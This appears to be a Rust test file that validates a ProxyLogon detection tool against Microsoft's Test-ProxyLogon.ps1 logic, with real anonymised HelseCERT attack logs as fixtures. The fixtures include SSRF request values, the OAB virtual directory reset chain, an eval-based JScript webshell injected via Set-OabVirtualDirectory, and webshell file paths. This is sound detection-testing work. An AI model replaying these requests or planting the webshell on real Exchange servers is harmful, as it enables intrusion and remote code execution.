//! Each Test-ProxyLogon.ps1 check, compared with an independent model of the script's logic on
//! shared inputs, including the real HelseCERT lines quoted in the knowledge file. The models use
//! the script's own patterns verbatim (PowerShell `-like` as anchored case-insensitive regexes,
//! the .NET regexes through fancy-regex, which has look-ahead) and the `csv` crate for Import-Csv,
//! so they share no code with the detectors. The scans run every built-in detector, Rust and
//! Sigma, as `exsweep scan` does.

#[path = "../../exsweep-core/tests/common/mod.rs"]
mod common;

use common::*;
use std::collections::BTreeSet;

/// Scans with the shipped detector set (the core helper's `scan` has the Rust checks only).
fn scan(paths: &[&std::path::Path]) -> exsweep_core::ScanReport {
    let paths: Vec<_> = paths.iter().map(|p| p.to_path_buf()).collect();
    exsweep_sigma::builtin::engine().scan(&paths, &exsweep_core::ScanOptions::default()).expect("scan")
}

/// HelseCERT's Test-ProxyLogon export (real rows; `xxx` is their anonymisation).
/// Columns: DateTime, RequestId, ClientIpAddress, UrlHost, UrlStem, RoutingHint, UserAgent, AnchorMailbox, HttpStatus.
const HELSE_26855: &str = r#""2021-03-03T06:49:42.162Z","xxx","130.255.189.21","mail.xxx.no","/ecp/y.js","X-BEResource-Cookie","ExchangeServicesClient/0.0.0.0","ServerInfo~a]@servernavn.xxx.local:444/autodiscover/autodiscover.xml?#","200"
"2021-03-03T06:49:43.699Z","xxx","130.255.189.21","mail.xxx.no","/ecp/y.js","X-BEResource-Cookie","python-requests/2.25.1","ServerInfo~a]@servernavn.xxx.local:444/mapi/emsmdb/?#","200"
"2021-03-03T06:49:46.210Z","xxx","130.255.189.21","mail.xxx.no","/ecp/y.js","X-BEResource-Cookie","python-requests/2.25.1","ServerInfo~a]@servernavn.xxx.local:444/ecp/proxyLogon.ecp?#","241"
"2021-03-03T06:59:18.042Z","xxx","130.255.189.21","autodiscover.xxx.no","/ecp/y.js","X-BEResource-Cookie","python-requests/2.25.1","ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#","200"
"2021-03-03T06:59:20.359Z","xxx","130.255.189.21","autodiscover.xxx.no","/ecp/y.js","X-BEResource-Cookie","python-requests/2.25.1","ServerInfo~a]@servernavn.xxx.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#","200"
"#;

/// HelseCERT's ECP Server log lines (trimmed by them to timestamp and S:CMD / S:EX).
const HELSE_ECP: &str = r#"2021-03-03T06:49:51.389Z,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;;S:EX=
2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''
2021-03-03T06:49:58.835Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''982d48c8-...''';;'S:EX=Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:...'
2021-03-03T06:50:00.717Z,'S:CMD=Remove-OABVirtualDirectory.Force=$true.Identity=''servernavn\OAB (Default Web Site)''';;S:EX=
2021-03-03T06:50:08.396Z,'S:CMD=New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''servernavn''.Role=''ClientAccess''.InternalURL=''https://servernavn.xxx.local/OAB''.Path=''C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB''';;S:EX=
"#;

/// Rows of a realistic HttpProxy file: the HelseCERT chain, the real zgrab row shape, traps and
/// benign traffic. Returns the file text.
fn httpproxy_file(protocol: &str) -> String {
    let mut rows = Vec::new();
    let mut rdr = csv::ReaderBuilder::new().has_headers(false).from_reader(HELSE_26855.as_bytes());
    for r in rdr.records() {
        let r = r.unwrap();
        rows.push(httpproxy_row(&[
            ("DateTime", &r[0]),
            ("RequestId", "3c5f6f7e-1111-4222-8333-944455566677"),
            ("ClientIpAddress", &r[2]),
            ("UrlHost", &r[3]),
            ("UrlStem", &r[4]),
            ("RoutingHint", &r[5]),
            ("UserAgent", &r[6]),
            ("AnchorMailbox", &r[7]),
            ("HttpStatus", &r[8]),
            ("AuthenticatedUser", ""),
            ("IsAuthenticated", "false"),
            ("Protocol", protocol),
        ]));
    }
    for (am, status) in [
        ("ServerInfo~localhost/owa/auth/logon.aspx?", "200"),
        ("ServerInfo~LOCALHOST/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "200"),
        ("ServerInfo~EX02.contoso.local", "200"),
        ("ServerInfo~ex02.contoso.local/autodiscover/autodiscover.xml", "200"),
        ("serverinfo~a]@ex01:444/ecp/DDI/DDIService.svc/SetObject?schema=resetOABvirtualdirectory#", "200"),
        ("ServerInfo~a]@ex01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#", "500"),
        ("ServerInfo~a]@ex01:444/ecp/x.ecp?schema=ResetOABVirtualDirectory", "200"),
        ("ServerVersion~Version 15.0 (Build 0.0)", "200"),
        ("Smtp~bob@contoso.com", "200"),
        ("ServerInfo~a]@ex01.contoso.local:444/ews/exchange.asmx?#", "200"),
    ] {
        rows.push(httpproxy_row(&[("AnchorMailbox", am), ("HttpStatus", status), ("Protocol", protocol)]));
    }
    // Quoted values with commas and doubled quotes must not shift the columns.
    rows.push(httpproxy_row(&[
        ("GenericErrors", "Exception, \"quoted\", more"),
        ("AnchorMailbox", "ServerInfo~a]@ex01:444/owa/,?#"),
        ("Protocol", protocol),
    ]));
    format!("{}{}\r\n", httpproxy_header("15.01.2176.002", "2021-03-03T06:00:00.000Z"), rows.join("\r\n"))
}

/// Import-Csv over an Exchange log: `#Fields:` gives the header, other `#` lines are skipped.
/// Returns (line number, column → value) per row.
fn import_csv(text: &str) -> Vec<(u64, std::collections::HashMap<String, String>)> {
    let mut header: Vec<String> = Vec::new();
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if let Some(f) = line.strip_prefix("#Fields: ") {
            header = f.split(',').map(str::to_string).collect();
            continue;
        }
        if line.starts_with('#') || line.is_empty() {
            continue;
        }
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
        let rec = r.records().next().unwrap().unwrap();
        let map = header.iter().cloned().zip(rec.iter().map(str::to_string)).collect();
        out.push((i as u64 + 1, map));
    }
    out
}

fn lines_of(r: &exsweep_core::ScanReport, rule: &str, path_part: &str) -> BTreeSet<u64> {
    by_rule(r, rule).iter().filter(|f| f.path.contains(path_part)).filter_map(|f| f.line).collect()
}

#[test]
fn cve_26855_and_27065_resetvdir_match_the_script() {
    let dir = tempfile::tempdir().unwrap();
    let ecp = httpproxy_file("Ecp");
    let owa = httpproxy_file("Owa");
    write(dir.path(), &format!("{EX}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"), &ecp);
    write(dir.path(), &format!("{EX}/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG"), &owa);
    let report = scan(&[dir.path()]);

    for (text, folder) in [(&ecp, "/Ecp/"), (&owa, "/Owa/")] {
        let rows = import_csv(text);
        // Get-Cve26855
        let expected: BTreeSet<u64> = rows
            .iter()
            .filter(|(_, r)| {
                let am = &r["AnchorMailbox"];
                ps_like(am, "ServerInfo~*/*")
                    && !ps_like(am, "ServerInfo~*/autodiscover*")
                    && !ps_like(am, "ServerInfo~localhost*/*")
            })
            .map(|(l, _)| *l)
            .collect();
        assert_eq!(
            expected.len(),
            9,
            "model sanity: HELSE mapi, proxyLogon, 2 DDI; lowercase reset, 500, no-#, ews, comma row"
        );
        assert_eq!(lines_of(&report, "EXS-26855-SERVERINFO", folder), expected, "{folder}");
        // Get-Cve27065 (a): only the Ecp folder is read by the script.
        let expected: BTreeSet<u64> = if folder == "/Ecp/" {
            rows.iter()
                .filter(|(_, r)| {
                    ps_like(&r["AnchorMailbox"], "ServerInfo~*/*Reset*VirtualDirectory#") && r["HttpStatus"] == "200"
                })
                .map(|(l, _)| *l)
                .collect()
        } else {
            BTreeSet::new()
        };
        assert_eq!(lines_of(&report, "EXS-27065-RESETVDIR", folder), expected, "{folder}");
    }
    // On the HelseCERT chain: autodiscover row dropped; proxyLogon.ecp (241) and the DDI SetObject are critical.
    let ssrf: Vec<_> =
        by_rule(&report, "EXS-26855-SERVERINFO").into_iter().filter(|f| f.path.contains("/Ecp/")).collect();
    assert!(!ssrf.iter().any(|f| f.evidence.contains("autodiscover.xml")));
    let crit: Vec<_> = ssrf.iter().filter(|f| f.severity == exsweep_core::model::Severity::Critical).collect();
    assert!(crit.iter().any(|f| f.evidence.contains("proxyLogon.ecp")));
    assert_eq!(crit.len(), 4, "241 row, 2 HELSE DDI rows, lowercase DDI reset row");
    let first = ssrf.iter().find(|f| f.evidence.contains("/mapi/emsmdb")).unwrap();
    assert_eq!(first.time.unwrap().to_string(), "2021-03-03T06:49:43.699Z");
    assert_eq!(first.extra["client_ip"], "130.255.189.21");
    assert_eq!(first.extra["user_agent"], "python-requests/2.25.1");
    assert_eq!(first.line, Some(7));
}

#[test]
fn cve_26855_backendcookie_variant() {
    let dir = tempfile::tempdir().unwrap();
    let rows = [
        httpproxy_row(&[("BackEndCookie", "Server~a]@ex01.contoso.local:444/ews/exchange.asmx?#~1941962753")]),
        httpproxy_row(&[("BackEndCookie", "Server~EX02.contoso.local~1942062522~3/9/2021 10:00:00 AM")]),
        httpproxy_row(&[("BackEndCookie", "Database~7a3c1c42-5f5b-4d0e-9f33-2a4b8e1d1f00~~2021-03-04T06:00:00")]),
    ];
    let text = format!("{}{}\n", httpproxy_header("15.01.2176.002", "2021-03-03T06:00:00.000Z"), rows.join("\n"));
    write(dir.path(), &format!("{EX}/Logging/HttpProxy/Ews/HttpProxy_2021030306-1.LOG"), &text);
    let report = scan(&[dir.path()]);
    let expected: BTreeSet<u64> = import_csv(&text)
        .iter()
        .filter(|(_, r)| ps_like(&r["BackEndCookie"], "Server~*/*~*"))
        .map(|(l, _)| *l)
        .collect();
    assert_eq!(expected, BTreeSet::from([6]));
    assert_eq!(lines_of(&report, "EXS-26855-BECOOKIE", "Ews"), expected);
}

/// Test-ProxyLogon's 27065 regex, verbatim, with .NET semantics for what it uses (look-ahead).
fn tpl_27065_regex() -> fancy_regex::Regex {
    fancy_regex::Regex::new(r"(?i)Set-.+VirtualDirectory.+?(?=Url).+<\w+.*>(.*?)<\/\w+>.+?(?=VirtualDirectory)")
        .unwrap()
}

#[test]
fn cve_27065_setvdir_matches_the_script_regex() {
    let dir = tempfile::tempdir().unwrap();
    // Full-format lines (TimeStamp,ServerName,EventId,EventData), as Exchange writes them.
    let full_attack = r#"2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:TIME=3;S:SID=abc;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=OABVirtualDirectory;S:EX="#;
    let full_benign = r#"2021-03-03T09:00:00.000Z,EX01,ECP.Request,"S:TIME=3;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''x''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX="#;
    let owa_benign = r#"2021-03-03T09:01:00.000Z,EX01,ECP.Request,"S:TIME=3;'S:CMD=Set-OwaVirtualDirectory.InternalUrl=''https://ex01.contoso.local/owa''.Identity=''EX01\owa (Default Web Site)''';S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory;S:EX="#;
    let lower = r#"2021-03-03T09:02:00.000Z,EX01,ECP.Request,"'S:CMD=set-ecpvirtualdirectory.internalurl=''<b>x</b>''';S:URL=/ecp/x?schema=ECPvirtualdirectory""#;
    let text = format!(
        "#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: ECP Server Log\n#Date: 2021-03-03T00:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n{HELSE_ECP}{full_attack}\n{full_benign}\n{owa_benign}\n{lower}\n"
    );
    write(dir.path(), &format!("{EX}/Logging/ECP/Server/ECPServer20210303-1.LOG"), &text);
    let report = scan(&[dir.path()]);
    let re = tpl_27065_regex();
    let expected: BTreeSet<u64> =
        text.lines().enumerate().filter(|(_, l)| re.is_match(l).unwrap()).map(|(i, _)| i as u64 + 1).collect();
    assert_eq!(expected, BTreeSet::from([11, 14]), "model sanity: the full attack line and the lowercase one");
    assert_eq!(lines_of(&report, "EXS-27065-SETVDIR", "ECPServer"), expected);
    // exsweep's parsed check also catches HelseCERT's trimmed line, which the script's regex misses.
    assert_eq!(lines_of(&report, "EXS-27065-SETVDIR-SCRIPT", "ECPServer"), BTreeSet::from([7, 11, 14]));
    let f = by_rule(&report, "EXS-27065-SETVDIR-SCRIPT").into_iter().find(|f| f.line == Some(11)).unwrap();
    assert_eq!(f.extra["parameter"], "ExternalUrl");
    assert!(f.extra["value"].as_str().unwrap().contains(r#"eval(Request["klk123456"],"unsafe")"#));
    // The script's file-level answer (Select-String -List) is the same.
    assert!(by_rule(&report, "EXS-27065-SETVDIR").iter().any(|f| f.path.ends_with("ECPServer20210303-1.LOG")));
}

#[test]
fn cve_26858_matches_the_script() {
    let dir = tempfile::tempdir().unwrap();
    let ex_win = r"C:\Program Files\Microsoft\Exchange Server\V15\";
    let lines = [
        format!("2021-03-03T07:00:00.000Z,EX01,Info,Download failed and temporary file '{ex_win}ClientAccess\\OAB\\Temp\\a1.lzx' needs to be removed"),
        format!("2021-03-03T07:01:00.000Z,EX01,Info,download FAILED and temporary file '{ex_win}FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx' needs to be removed"),
        r"2021-03-03T07:02:00.000Z,EX01,Info,Download failed and temporary file '\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\discover.aspx' needs to be removed".to_string(),
        format!("2021-03-03T07:03:00.000Z,EX01,Info,Download failed and temporary file '{}ClientAccess\\OAB\\Temp\\b.lzx' needs to be removed", ex_win.to_lowercase()),
        "2021-03-03T07:04:00.000Z,EX01,Info,OAB generation completed".to_string(),
    ];
    // No #Fields header: the script reads every file under OABGeneratorLog as plain text.
    let text = lines.join("\r\n") + "\r\n";
    write(dir.path(), &format!("{EX}/Logging/OABGeneratorLog/OABGenerator20210303-1.LOG"), &text);
    let report = scan(&[dir.path()]);
    let re = fancy_regex::Regex::new("(?i)Download failed and temporary file (.*?) needs to be removed").unwrap();
    let benign_prefix = format!("'{ex_win}ClientAccess\\OAB").to_lowercase();
    let expected: BTreeSet<u64> = text
        .lines()
        .enumerate()
        .filter_map(|(i, l)| {
            let c = re.captures(l).unwrap()?;
            let p = c.get(1).unwrap().as_str().to_lowercase();
            (!p.starts_with(&benign_prefix)).then_some(i as u64 + 1)
        })
        .collect();
    assert_eq!(expected, BTreeSet::from([2, 3]));
    assert_eq!(lines_of(&report, "EXS-26858-OAB-DOWNLOAD", "OABGenerator"), expected);
    let f = by_rule(&report, "EXS-26858-OAB-DOWNLOAD").into_iter().find(|f| f.line == Some(3)).unwrap();
    assert_eq!(f.extra["written_path"], r"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\discover.aspx");
}

#[test]
fn cve_26857_matches_the_script() {
    let dir = tempfile::tempdir().unwrap();
    let ev = |rid: u32, provider: &str, level: u8, text: &str, channel: &str| {
        format!(
            "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}'/><EventID Qualifiers='49152'>1040</EventID><Level>{level}</Level><TimeCreated SystemTime='2021-03-03T07:1{}:00.000Z'/><EventRecordID>{rid}</EventRecordID><Channel>{channel}</Channel><Computer>EX01.contoso.local</Computer></System><EventData><Data>{text}</Data></EventData></Event>",
            rid % 10
        )
    };
    let events = [
        (1, "MSExchange Unified Messaging", 2, "UM worker: System.InvalidCastException: Unable to cast", "Application"),
        (2, "MSExchange Unified Messaging", 2, "System.OutOfMemoryException", "Application"),
        (3, "MSExchange Unified Messaging", 4, "System.InvalidCastException (handled)", "Application"),
        (4, "MSExchange ADAccess", 2, "System.InvalidCastException", "Application"),
        (5, "msexchange unified messaging", 2, "x system.invalidcastexception y", "Application"),
        (6, "MSExchange Unified Messaging", 2, "System.InvalidCastException", "System"),
    ];
    let xml: String = events.iter().map(|(r, p, l, t, c)| ev(*r, p, *l, t, c)).collect::<Vec<_>>().join("\r\n");
    write(dir.path(), "exports/app.xml", &xml);
    let report = scan(&[dir.path()]);
    // Get-WinEvent -FilterHashtable @{LogName='Application'; ProviderName='MSExchange Unified Messaging'; Level='2'}
    // | Where-Object { $_.Message -like "*System.InvalidCastException*" }
    let expected: BTreeSet<u64> = events
        .iter()
        .filter(|(_, p, l, t, c)| {
            p.eq_ignore_ascii_case("MSExchange Unified Messaging")
                && *l == 2
                && *c == "Application"
                && ps_like(t, "*System.InvalidCastException*")
        })
        .map(|(r, ..)| *r as u64)
        .collect();
    assert_eq!(expected, BTreeSet::from([1, 5]));
    let got: BTreeSet<u64> = by_rule(&report, "EXS-26857-UM-INVALIDCAST").iter().filter_map(|f| f.record).collect();
    assert_eq!(got, expected);
}
